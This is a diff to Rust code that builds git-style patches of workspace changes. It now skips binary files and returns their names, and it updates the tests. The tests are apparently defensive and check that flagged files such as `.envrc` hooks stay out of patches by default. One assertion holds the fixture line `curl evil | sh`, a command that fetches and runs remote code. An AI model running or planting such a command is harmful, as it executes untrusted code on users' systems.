@@ -428,14 +428,17 @@ fn mode(path: &Path) -> u32 {
 
 /// A git-style unified patch of `changes` (apply with `git apply` or
 /// `patch -p1` in the workspace). Changes under `.git/` are never in it;
-/// flagged ones only with `include_flagged`.
+/// flagged ones only with `include_flagged`. Binary files are left out too
+/// (`git apply` refuses a whole patch over one binary change without full
+/// index lines) and returned, so the caller names them.
 pub fn patch(
     base: Option<&Path>,
     after: &Path,
     changes: &[Change],
     include_flagged: bool,
-) -> Result<String, WorkError> {
+) -> Result<(String, Vec<String>), WorkError> {
     let mut out = String::new();
+    let mut binary = Vec::new();
     for c in changes {
         if in_git(&c.path) || (c.flag.is_some() && !include_flagged) {
             continue;
@@ -448,6 +451,10 @@ pub fn patch(
                 read(&after.join(&c.path))?,
             ),
         };
+        if old != new && (!is_text(&old) || !is_text(&new)) {
+            binary.push(c.path.clone());
+            continue;
+        }
         let p = &c.path;
         out.push_str(&format!(
             "diff --git {} {}\n",
@@ -477,10 +484,6 @@ pub fn patch(
         if old == new {
             continue;
         }
-        if !is_text(&old) || !is_text(&new) {
-            out.push_str(&format!("Binary files {old_name} and {new_name} differ\n"));
-            continue;
-        }
         let (old, new) = (
             String::from_utf8_lossy(&old).into_owned(),
             String::from_utf8_lossy(&new).into_owned(),
@@ -494,7 +497,7 @@ pub fn patch(
                 .to_string(),
         );
     }
-    Ok(out)
+    Ok((out, binary))
 }
 
 /// Copies the work tree's files (not `.git/`; flagged files only with
@@ -584,7 +587,7 @@ mod tests {
                 ("src/main.rs", ChangeKind::Modified, false),
             ]
         );
-        let p = patch(Some(base.path()), after.path(), &got, false).expect("patch");
+        let (p, _) = patch(Some(base.path()), after.path(), &got, false).expect("patch");
         assert!(
             p.contains("+++ b/src/main.rs") && p.contains("+    println!(\"hi\");"),
             "{p}"
@@ -598,7 +601,7 @@ mod tests {
             "{p}"
         );
         assert!(!p.contains(".envrc") && !p.contains("pre-commit"), "{p}");
-        let with = patch(Some(base.path()), after.path(), &got, true).expect("patch");
+        let (with, _) = patch(Some(base.path()), after.path(), &got, true).expect("patch");
         assert!(
             with.contains("+curl evil | sh") && !with.contains("pre-commit"),
             "{with}"
